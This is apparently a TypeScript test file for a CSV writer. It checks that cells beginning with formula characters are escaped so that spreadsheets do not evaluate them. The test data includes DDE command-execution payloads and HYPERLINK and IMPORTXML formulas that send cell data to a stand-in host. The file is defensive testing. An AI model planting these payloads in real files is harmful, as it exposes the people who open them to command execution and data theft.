import { parse } from 'csv-parse/sync';
import * as xlsx from 'xlsx';
import { csvRow } from '../../src/platform/csv';
import { hostile } from './hostile';

/** Cells that a spreadsheet would reckon, or send somewhere, when somebody opens what we wrote. */
const CELLS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＠SUM(1)',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '"=1+1"',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '-2+3+cmd|"/C calc"!A0',
  ';=1+1',
  ',=1+1',
].map((name) => ({ name: JSON.stringify(name), cell: name }));

/** As a spreadsheet reads a CSV: what begins with = is a formula, wherever a cell begins by the separators of that country. */
const cellsOf = (csv: string, separator: ',' | ';'): xlsx.CellObject[] => {
  const sheet = Object.values(xlsx.read(`sep=${separator}\n${csv}\n`, { type: 'string', cellFormula: true }).Sheets)[0]!;
  return Object.entries(sheet).flatMap(([at, cell]) => (at.startsWith('!') ? [] : [cell as xlsx.CellObject]));
};

hostile('formulas', CELLS, ({ cell }) => {
  const row = csvRow(['NORD', cell, 12]);
  for (const separator of [',', ';'] as const) expect(cellsOf(row, separator).filter((c) => c.f !== undefined)).toEqual([]);
  const [read] = parse(row, { relax_column_count: true }) as string[][];
  expect(read).toHaveLength(3);
  expect(read![1]!.replaceAll("'", '')).toBe(cell.replaceAll("'", '')); // and nothing else of it is changed
  expect(read![1]).not.toMatch(/^[\s\0]*[=+\-@＝＋－＠]/u);
});

test('a cell that is written as it is would be reckoned', () => {
  expect(cellsOf('NORD,=1+1,12', ',').map((c) => c.f)).toContain('1+1');
});

test.each([
  ['NORD', 'NORD'],
  ['-12', '-12'],
  ['+49', '+49'],
  ['-1,5', '"-1,5"'],
  ['30 6 * * 1,3', '"30 6 * * 1,3"'],
  ['a "b"', '"a ""b"""'],
  ['a;-1', '"a;\'-1"'],
  ['a,"b"', '"a,""b"""'],
  ['', ''],
  [' x ', '" x "'],
  ['A-1', 'A-1'],
  ['a@b.example', 'a@b.example'],
])('%j stays what it is: %s', (cell, written) => expect(csvRow([cell])).toBe(written));
